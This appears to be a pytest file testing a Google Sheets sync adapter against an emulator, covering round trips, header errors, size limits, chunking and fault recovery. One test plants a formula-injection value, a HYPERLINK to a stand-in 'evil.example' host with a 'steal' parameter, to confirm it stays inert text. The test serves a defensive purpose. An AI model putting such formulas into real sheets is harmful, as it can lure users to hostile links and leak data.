"""The Sheets adapter against the emulator over loopback: push and pull round trips, the header
rules, pre-flight rejects, streaming windows, chunked writes and faults."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import orjson
import pytest
from sheets.sheets_support import mapping, unit

from migo_sync.adapter import PullBatch
from migo_sync.adapters.sheets.adapter import SheetsAdapter
from migo_sync.adapters.sheets.client import SheetsClient
from migo_sync.adapters.sheets.payload import minimum_requests
from migo_sync.adapters.sheets.seed import ADJ_HEADER
from migo_sync.adapters.sheets.values import to_cell
from migo_sync.errors import ConfigError
from migo_sync.http import REQUEST_STATS
from migo_sync.sandbox.process import SandboxThread

PUSH_FIELDS = [{"column": "loan_id", "remote": "Loan ID"},
               {"column": "outstanding", "remote": "Outstanding", "type": "decimal", "scale": 2},
               {"column": "due", "remote": "Due", "type": "date"},
               {"column": "note", "remote": "Note"}]


def records(count: int, start: int = 0) -> list[dict[str, Any]]:
    return [{"Loan ID": f"L{i:07d}", "Outstanding": Decimal(f"{(i * 7919) % 250_000}.{i % 100:02d}"),
             "Due": date(2026, 10, 1 + i % 28), "Note": None if i % 3 else f"call #{i}"}
            for i in range(start, start + count)]


def tab(sandbox: SandboxThread, title: str = "Collections", book: str = "migo-collections") -> dict[str, Any]:
    result: dict[str, Any] = sandbox.dump("sheets")["spreadsheets"][book]["tabs"][title]
    return result


def pulled(adapter: SheetsAdapter, **options: Any) -> list[dict[str, Any]]:
    """Read back the Collections tab with the push fields, typed."""
    pull = mapping("pull", fields=PUSH_FIELDS, key=["loan_id"], spreadsheet_id="migo-collections",
                   sheet="Collections", **options)
    return [r for batch in adapter.read(pull, None) for r in batch.records]


# --- push --------------------------------------------------------------------------------------

def test_push_then_pull_round_trip_keeps_cents_dates_and_formula_text(adapter: SheetsAdapter,
                                                                      sheets_sandbox: SandboxThread) -> None:
    rows = records(50)
    rows[1]["Note"] = '=HYPERLINK("https://evil.example/?steal=1","Click me")'
    rows[2]["Outstanding"] = Decimal("12345678901234567.89")       # beyond a double: sent as exact text
    rows[3]["Outstanding"] = Decimal("0.10")
    result = adapter.write(mapping("push"), [unit(rows)])
    assert result[0].ok and result[0].remote_id == "'Collections'!A1:D51"
    cells = tab(sheets_sandbox)["rows"]
    assert cells[0] == ["Loan ID", "Outstanding", "Due", "Note"]
    assert cells[2] == ["L0000001", 7919.01, "2026-10-02", '=HYPERLINK("https://evil.example/?steal=1","Click me")']
    assert cells[3][1] == "12345678901234567.89"
    assert cells[4][1] == 0.1
    assert cells[2][2] == "2026-10-02"                              # RAW: ISO text, not a serial
    back = pulled(adapter)
    assert len(back) == 50
    for sent, got in zip(rows, back, strict=True):
        assert got["Loan ID"] == sent["Loan ID"]
        assert got["Outstanding"] == sent["Outstanding"]            # Decimal, to the cent
        assert isinstance(got["Outstanding"], Decimal) or sent is rows[2]
        assert got["Note"] == sent["Note"]                          # None ⇄ empty cell
        assert got["Due"] == sent["Due"].isoformat()                # text as written; the engine casts
    assert back[1]["Note"].startswith("=HYPERLINK")                # never evaluated: RAW keeps text


def test_push_clears_the_previous_extent(adapter: SheetsAdapter, sheets_sandbox: SandboxThread,
                                         client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [["old"] * 8] * 30)
    adapter.write(mapping("push"), [unit(records(5))])
    cells = tab(sheets_sandbox)["rows"]
    assert len(cells) == 6 and all(len(row) <= 4 for row in cells)
    adapter.write(mapping("push"), [unit([])])                      # an empty relation: the header only
    assert tab(sheets_sandbox)["rows"] == [["Loan ID", "Outstanding", "Due", "Note"]]


def test_push_only_touches_its_range(adapter: SheetsAdapter, sheets_sandbox: SandboxThread,
                                     client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [["Collections list (do not edit)"]])
    client.update("migo-collections", "Collections!G1", [["notes"], ["keep me"], ["me too"]])
    client.update("migo-collections", "Collections!B3", [["stale"] * 4] * 10)
    push = mapping("push", range="B3:E", header_row=1)
    result = adapter.write(push, [unit(records(2))])
    assert result[0].ok and result[0].remote_id == "'Collections'!B3:E5"
    cells = tab(sheets_sandbox)["rows"]
    assert cells[0] == ["Collections list (do not edit)", "", "", "", "", "", "notes"]
    assert cells[1] == ["", "", "", "", "", "", "keep me"]
    assert cells[2] == ["", "Loan ID", "Outstanding", "Due", "Note", "", "me too"]
    assert len(cells) == 5


def test_push_orders_rows_by_option(adapter: SheetsAdapter, sheets_sandbox: SandboxThread) -> None:
    push = mapping("push", order_by=["Due desc", "Loan ID"])
    adapter.write(push, [unit(records(60))])
    due = [row[2] for row in tab(sheets_sandbox)["rows"][1:]]
    assert due == sorted(due, reverse=True)
    first_day = [row[0] for row in tab(sheets_sandbox)["rows"][1:] if row[2] == due[0]]
    assert first_day == sorted(first_day)


def test_push_creates_a_missing_tab_sized_to_the_data(adapter: SheetsAdapter, sheets_sandbox: SandboxThread) -> None:
    push = mapping("push", sheet="Collections (new)")
    assert adapter.write(push, [unit(records(3))])[0].ok
    created = tab(sheets_sandbox, "Collections (new)")
    assert (created["rowCount"], created["columnCount"]) == (4, 4)
    assert created["rows"][3][0] == "L0000002"
    with pytest.raises(ConfigError, match=r"has no tab 'Nope' \(tabs: 'Collections', 'Collections \(new\)'\)"):
        adapter.write(mapping("push", sheet="Nope", create_tab=False), [unit(records(1))])


def test_push_grows_the_grid_and_chunks_requests(make_adapter: Callable[..., SheetsAdapter],
                                                 sheets_sandbox: SandboxThread) -> None:
    adapter = make_adapter(max_request_bytes=16_384, rate_limit=0)
    rows = records(2_500)
    adapter.client.spreadsheet("migo-collections")                  # token and a read, not counted below
    before = sheets_sandbox.stats().get("sheets", 0)
    assert adapter.write(mapping("push"), [unit(rows)])[0].ok
    sent = sheets_sandbox.stats()["sheets"] - before
    serialised = [orjson.dumps(["Loan ID", "Outstanding", "Due", "Note"])] + [
        orjson.dumps([to_cell(r[k]) for k in ("Loan ID", "Outstanding", "Due", "Note")]) for r in rows]
    least = minimum_requests(map(len, serialised), "Collections", 0, 0, 16_384)
    assert least >= 5
    assert least <= sent - 3 <= least + 1                           # metadata, resize, clear + the chunks
    grid = tab(sheets_sandbox)
    assert (grid["rowCount"], grid["columnCount"]) == (2_501, 26)   # grown, never shrunk
    assert [row[0] for row in grid["rows"][1:]] == [r["Loan ID"] for r in rows]


def test_preflight_rejects_the_10m_cell_limit_before_sending(adapter: SheetsAdapter, client: SheetsClient,
                                                            sheets_sandbox: SandboxThread) -> None:
    client.structure("migo-collections", [{"addSheet": {"properties": {
        "title": "Archive", "gridProperties": {"rowCount": 383_000, "columnCount": 26}}}}])  # 9,958,000 cells
    push = mapping("push")
    before = tab(sheets_sandbox)
    rejects = adapter.check(push, [unit(records(2_000))])
    assert rejects == {"*": rejects["*"]}
    reason = rejects["*"]
    assert "10,000,000" in reason and "2,001 x 26" in reason and "9,958,000" in reason
    requests_before = REQUEST_STATS.get("sheets")
    results = adapter.write(push, [unit(records(2_000))])
    assert not results[0].ok and results[0].reason == reason
    assert REQUEST_STATS.get("sheets") - requests_before == 0       # metadata came from check(): nothing sent
    assert tab(sheets_sandbox) == before
    assert adapter.check(push, [unit(records(500))]) == {}          # 1,000 rows fit in the grid as it is


def test_preflight_rejects_a_cell_over_50k_characters(adapter: SheetsAdapter, sheets_sandbox: SandboxThread) -> None:
    rows = records(5)
    rows[3]["Note"] = "x" * 50_001
    rejects = adapter.check(mapping("push"), [unit(rows)])
    assert rejects["*"].startswith("Collections!D5 (Note, key L0000003) would hold 50,001 characters")
    result = adapter.write(mapping("push"), [unit(rows)])
    assert not result[0].ok and "50,000-character" in str(result[0].reason)
    assert tab(sheets_sandbox)["rows"] == []
    rows[3]["Note"] = "x" * 50_000
    assert adapter.write(mapping("push"), [unit(rows)])[0].ok


def test_preflight_rejects_rows_past_a_bounded_range(adapter: SheetsAdapter) -> None:
    rejects = adapter.check(mapping("push", range="A1:D10"), [unit(records(10))])
    assert "do not fit" in rejects["*"] and "row 10" in rejects["*"]


def test_push_under_faults_ends_in_the_same_state(make_adapter: Callable[..., SheetsAdapter],
                                                  sheets_sandbox: SandboxThread) -> None:
    rows = records(3_000)
    adapter = make_adapter(max_request_bytes=8_192, rate_limit=0)
    assert adapter.write(mapping("push"), [unit(rows)])[0].ok
    clean = sheets_sandbox.dump("sheets")
    sheets_sandbox.reset()
    sheets_sandbox.faults(rate=0.3, seed=11, kinds=["429", "500", "503", "drop", "drop_after"])
    faulty = make_adapter(max_request_bytes=8_192, rate_limit=0)
    assert faulty.write(mapping("push"), [unit(rows)])[0].ok
    injected = sheets_sandbox.faults()["injected"]
    sheets_sandbox.faults(rate=0.0)
    assert sum(injected.values()) >= 3
    assert sheets_sandbox.dump("sheets") == clean


# --- pull --------------------------------------------------------------------------------------

def test_pull_fx_rates_typed_by_the_mapping(adapter: SheetsAdapter, client: SheetsClient) -> None:
    batches = list(adapter.read(mapping("pull"), None))
    assert [b.state for b in batches] == [None]
    rows = batches[0].records
    raw = client.get("migo-finance-manual", "'FX Rates'!A2:D21")["values"]
    assert len(rows) == 20
    assert rows[0] == {"Currency": raw[0][0], "Rate to KES": Decimal(repr(raw[0][1])),
                       "Effective Date": date(2026, 7, 1), "Source": raw[0][3]}
    assert {r["Effective Date"] for r in rows} == {date(2026, m, 1) for m in (7, 8, 9, 10)}
    assert all(isinstance(r["Rate to KES"], Decimal) for r in rows)


def test_pull_manual_adjustments(adapter: SheetsAdapter) -> None:
    fields = [{"column": c, "remote": h, "type": t} for c, h, t in zip(
        ["adjustment_id", "account", "department", "amount", "reason", "approved_by", "date"], ADJ_HEADER,
        ["string", "string", "string", "decimal", "string", "string", "date"], strict=True)]
    pull = mapping("pull", fields=fields, key=["adjustment_id"], sheet="Manual Adjustments")
    rows = [r for b in adapter.read(pull, None) for r in b.records]
    assert len(rows) == 30
    assert all(r["Amount"] == r["Amount"].quantize(Decimal("0.01")) for r in rows)
    assert all(date(2026, 10, 1) <= r["Date"] <= date(2026, 11, 29) for r in rows)
    assert rows[0]["Adjustment ID"] == "ADJ-2026-0001"


def test_pull_streams_in_windows(adapter: SheetsAdapter, client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [["Loan ID", "Outstanding", "Due", "Note"]] +
                  [[f"L{i:07d}", i + 0.5, 46296 + i, ""] for i in range(23)])
    batches = list(adapter.read(mapping("pull", fields=PUSH_FIELDS, key=["loan_id"], spreadsheet_id="migo-collections",
                                        sheet="Collections", range="A1:D40", window_rows=10), None))
    assert [len(b.records) for b in batches] == [10, 10, 3]
    assert batches[2].records[-1] == {"Loan ID": "L0000022", "Outstanding": Decimal("22.5"),
                                      "Due": date(2026, 10, 23), "Note": None}


def test_pull_skips_blank_rows_and_pads_ragged_ones(adapter: SheetsAdapter, client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [
        ["Loan ID", "Outstanding", "Due", "Note", "Unmapped"],
        ["L1", 1, 46296],                  # ragged: Note missing
        [],                                # blank row inside the range
        ["", "", "", "", "only unmapped"],  # data only in an unmapped column: nothing to load
        ["L2", "", "", "n"],
    ])
    assert pulled(adapter) == [
        {"Loan ID": "L1", "Outstanding": Decimal(1), "Due": date(2026, 10, 1), "Note": None},
        {"Loan ID": "L2", "Outstanding": None, "Due": None, "Note": "n"},
    ]


def test_pull_timestamps_from_serials(adapter: SheetsAdapter, client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [["Id", "At"], ["a", "2026-10-01 10:30:00"], ["b", "=1+1"]],
                  value_input="USER_ENTERED")
    fields = [{"column": "id", "remote": "Id"}, {"column": "at", "remote": "At", "type": "timestamp"}]
    pull = mapping("pull", fields=fields, key=["id"], spreadsheet_id="migo-collections", sheet="Collections")
    rows = [r for b in adapter.read(pull, None) for r in b.records]
    assert rows == [{"Id": "a", "At": datetime(2026, 10, 1, 10, 30)}, {"Id": "b", "At": datetime(1900, 1, 1)}]


def test_a_header_holding_a_date_is_named_as_people_see_it(adapter: SheetsAdapter, client: SheetsClient) -> None:
    """Typed in the sheet, "2020-01-01" is a date cell (serial 43831 unformatted); the mapping names
    the header as shown, like the recorded gspread traffic (tests/recordings)."""
    client.update("migo-collections", "Collections!A1", [["Id", "2020-01-01"], ["a", "12.50"]],
                  value_input="USER_ENTERED")
    raw = client.get("migo-collections", "Collections!B1", value_render="UNFORMATTED_VALUE")
    assert raw["values"] == [[43831]]  # the cell really holds a date
    fields = [{"column": "id", "remote": "Id"}, {"column": "jan", "remote": "2020-01-01", "type": "decimal"}]
    pull = mapping("pull", fields=fields, key=["id"], spreadsheet_id="migo-collections", sheet="Collections")
    assert [f.name for f in adapter.describe(pull).fields][:2] == ["Id", "2020-01-01"]
    rows = [r for b in adapter.read(pull, None) for r in b.records]
    assert rows == [{"Id": "a", "2020-01-01": Decimal("12.50")}]


HEADER_PROBLEMS = [
    ([["Loan ID", "", "Due", "Note"]], r"tab 'Collections', header row 1: column B has a blank header"),
    ([["Loan ID", "Outstanding", "Loan ID", "Note"]],
     r"header 'Loan ID' appears twice \(columns A and C\)"),
    ([["Loan ID", "Outstandng", "Due", "Note"]],
     r"no column 'Outstanding' .*did you mean 'Outstandng'.*headers: 'Loan ID', 'Outstandng', 'Due', 'Note'"),
    ([[], ["L1", 2]], r"header row 1 is empty"),
    ([["Loan ID", "Outstanding", "Due", "Note"], ["", 5, "", "x"]],
     r"Collections!A2 is blank but the row has data; 'Loan ID' is part of the key"),
]


@pytest.mark.parametrize(("cells", "message"), HEADER_PROBLEMS, ids=["blank", "duplicate", "missing", "empty",
                                                                    "blank-key"])
def test_pull_header_problems_are_clear_config_errors(adapter: SheetsAdapter, client: SheetsClient,
                                                      cells: list[list[Any]], message: str) -> None:
    client.update("migo-collections", "Collections!A1", cells)
    with pytest.raises(ConfigError, match=message) as caught:
        pulled(adapter)
    assert "spreadsheet 'migo-collections'" in str(caught.value)


def test_pull_a_missing_tab_suggests_the_right_one(adapter: SheetsAdapter) -> None:
    with pytest.raises(ConfigError, match=r"has no tab 'FX rates' \(did you mean 'FX Rates'\?\)"):
        list(adapter.read(mapping("pull", sheet="FX rates"), None))


def test_pull_a_bounded_range_with_a_title_row(adapter: SheetsAdapter, client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!B2", [["Report title"], ["Loan ID", "Outstanding", "Due", "Note"],
                                                         ["L9", 9.99, 46300, "x"], ["L10", 1, 46301, "y"]])
    rows = pulled(adapter, range="B2:E4", header_row=2)
    assert rows == [{"Loan ID": "L9", "Outstanding": Decimal("9.99"), "Due": date(2026, 10, 5), "Note": "x"}]


def test_pull_under_faults_reads_the_same(adapter: SheetsAdapter, sheets_sandbox: SandboxThread) -> None:
    clean = [r for b in adapter.read(mapping("pull", window_rows=4, range="A1:D21"), None) for r in b.records]
    sheets_sandbox.faults(rate=0.4, seed=3, kinds=["429", "500", "503", "drop"])
    faulty = [r for b in adapter.read(mapping("pull", window_rows=4, range="A1:D21"), None) for r in b.records]
    sheets_sandbox.faults(rate=0.0)
    assert faulty == clean and len(clean) == 20


def test_empty_tab_pulls_one_empty_batch(adapter: SheetsAdapter, client: SheetsClient) -> None:
    client.update("migo-collections", "Collections!A1", [["Loan ID", "Outstanding", "Due", "Note"]])
    pull = mapping("pull", fields=PUSH_FIELDS, key=["loan_id"], spreadsheet_id="migo-collections", sheet="Collections")
    batches = list(adapter.read(pull, None))
    assert len(batches) == 1 and isinstance(batches[0], PullBatch) and batches[0].records == []


# --- describe and validate ---------------------------------------------------------------------

def test_describe_returns_the_live_header(adapter: SheetsAdapter) -> None:
    described = adapter.describe(mapping("pull"))
    assert [f.name for f in described.fields] == ["Currency", "Rate to KES", "Effective Date", "Source"]
    assert described.unit == "object" and described.dynamic_fields
    before = REQUEST_STATS.get("sheets")
    pushed = adapter.describe(mapping("push", sheet="Not yet there"))
    assert [f.name for f in pushed.fields] == ["Loan ID", "Outstanding", "Due", "Note"]
    assert REQUEST_STATS.get("sheets") == before + 1  # one metadata read: the spreadsheet is there
    with pytest.raises(ConfigError, match="no-such-sheet"):
        adapter.describe(mapping("push", spreadsheet_id="no-such-sheet"))


INVALID = [
    ({"direction": "push", "mode": "upsert"}, "mode", "'upsert' is not supported for a sheets push"),
    ({"direction": "pull", "mode": "insert"}, "mode", "use: mirror, upsert"),
    ({"direction": "push", "spreadsheet_id": None}, "options.spreadsheet_id", "required"),
    ({"direction": "push", "sheet": None}, "options", "name the tab"),
    ({"direction": "push", "range": "A1:ZZZZ9"}, "options", "is not A1 notation"),
    ({"direction": "push", "range": "'Other'!A1:D"}, "options", "differ"),
    ({"direction": "push", "range": "A1:B"}, "options.range", "2 columns wide; the mapping has 4 fields"),
    ({"direction": "push", "header_row": 0}, "options.header_row", "greater than or equal to 1"),
    ({"direction": "push", "order_by": ["Due sideways"]}, "options.order_by[0]", "not a remote field"),
    ({"direction": "push", "window_rows": 5}, "options.window_rows", "only used by a pull"),
    ({"direction": "pull", "create_tab": False}, "options.create_tab", "only used by a push"),
    ({"direction": "push", "colour": "red"}, "options.colour", "unknown option"),
]


@pytest.mark.parametrize(("change", "path", "message"), INVALID, ids=[p + ":" + m[:20] for _, p, m in INVALID])
def test_validate_reports_option_problems(adapter: SheetsAdapter, change: dict[str, Any], path: str,
                                          message: str) -> None:
    direction = change.pop("direction")
    mode = change.pop("mode", None)
    built = mapping(direction, mode=mode, **change)
    if change.get("spreadsheet_id", "") is None or change.get("sheet", "") is None:
        options = {k: v for k, v in built.options.items() if v is not None}
        built = built.model_copy(update={"options": options})
    problems = adapter.validate(built)
    assert any(p == path and message in m for p, m in problems), problems


def test_shipped_style_mappings_validate(adapter: SheetsAdapter) -> None:
    assert adapter.validate(mapping("push")) == []
    assert adapter.validate(mapping("pull")) == []
    url = "https://docs.google.com/spreadsheets/d/1AbC-xyz_09/edit#gid=0"
    assert adapter.validate(mapping("pull", spreadsheet_id=url)) == []


def test_preflight_rejects_a_row_too_large_for_one_request(make_adapter: Callable[..., SheetsAdapter],
                                                           sheets_sandbox: SandboxThread) -> None:
    adapter = make_adapter(max_request_bytes=65_536)
    rows = records(3)
    rows[1]["Note"] = "é\u0001" * 24_000                            # 48,000 characters, ~170 KB as JSON
    before = tab(sheets_sandbox)
    rejects = adapter.check(mapping("push"), [unit(rows)])
    assert "the row of key L0000001 is" in rejects["*"] and "65,536-byte request limit" in rejects["*"]
    assert not adapter.write(mapping("push"), [unit(rows)])[0].ok
    assert tab(sheets_sandbox) == before                            # refused before the clear
